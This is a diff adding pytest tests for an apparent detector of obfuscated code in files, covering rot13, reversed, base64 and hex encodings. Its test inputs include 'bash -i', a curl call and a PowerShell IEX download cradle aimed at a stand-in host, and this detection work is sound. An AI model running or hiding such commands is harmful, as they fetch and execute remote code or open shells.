@@ -87,6 +87,39 @@ def test_code_that_is_turned(code: str, kind: str, way: str) -> None:
     assert found == [(kind, [way])]
 
 
+@pytest.mark.parametrize("way", ["rot13", "reversed"])
+@pytest.mark.parametrize("code", ['import os; os.system("echo demo")', "import os\nos.system('echo demo')\n"])
+def test_turned_code_in_values(way: str, code: str) -> None:
+    value = codecs.encode(code, "rot13") if way == "rot13" else code[::-1]
+    for text in (value, json.dumps({"a": "b", "hook": value})):
+        ((_, found),) = encoded_files(text)
+        assert (found.found[0], found.methods, found.data) == ("python", [way], code.encode())
+
+
+def words(text: str) -> list[tuple[str, list[str]]]:
+    """The texts that patterns judge, and the encodings that hid them."""
+    return [(one.data.decode(), one.methods) for _, one in encoded_files(text) if one.found[0] == "text"]
+
+
+@pytest.mark.parametrize(
+    "word", ["import os", "from os import system", "exec(x)", "bash -i", "curl x.example/a", "http://x.example/a"]
+)
+def test_short_commands_and_addresses(word: str) -> None:
+    plain = word.encode()
+    coded = base64.b64encode(plain).decode()
+    for text in (coded, json.dumps({"a": coded}), f"a: {coded.rstrip('=')}\n"):
+        assert words(text) == [(word, ["base64"])]
+    assert words(f'"{plain.hex()}"') == words(f'"{plain.hex().upper()}"') == [(word, ["hex"])]
+
+
+def test_addresses_that_are_turned_or_long() -> None:
+    address = "https://x.example/a/" + "b" * 40
+    assert words(json.dumps({"a": address[::-1]})) == [(address, ["reversed"])]
+    assert words(json.dumps({"a": codecs.encode(address, "rot13")})) == [(address, ["rot13"])]
+    assert words(json.dumps({"a": list(address.encode())})) == [(address, ["characters"])]
+    assert words(json.dumps({"a": base64.b64encode(address.encode()).decode()})) == [(address, ["base64"])]
+
+
 def test_commands_of_windows() -> None:
     command = b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
     found = [one.found[0] for _, one in encoded_files(base64.b64encode(command).decode())]
@@ -117,6 +150,10 @@ ORDINARY = [
     "0.12, 0.55, 100, 200, 3, " * 100,
     "tropmi is import written backwards, and vzcbeg bf is rot13",
     "x" * 10_000 + "=" * 10_000,
+    " ".join(base64.b64encode(random.Random(n).randbytes(12)).decode() for n in range(2000)),
+    " ".join(random.Random(n).randbytes(8).hex() for n in range(2000)),
+    "aW1wb3J0 aW1wb3J0SI xaW1wb3J0IG9z aW1wb3J0I",
+    json.dumps({"aW1wb3J": 1, "Y3VybCB": 2, "aHR0cHM6": 3, "696d706f7274": 4, "lruc": 5}),
 ]
 
 
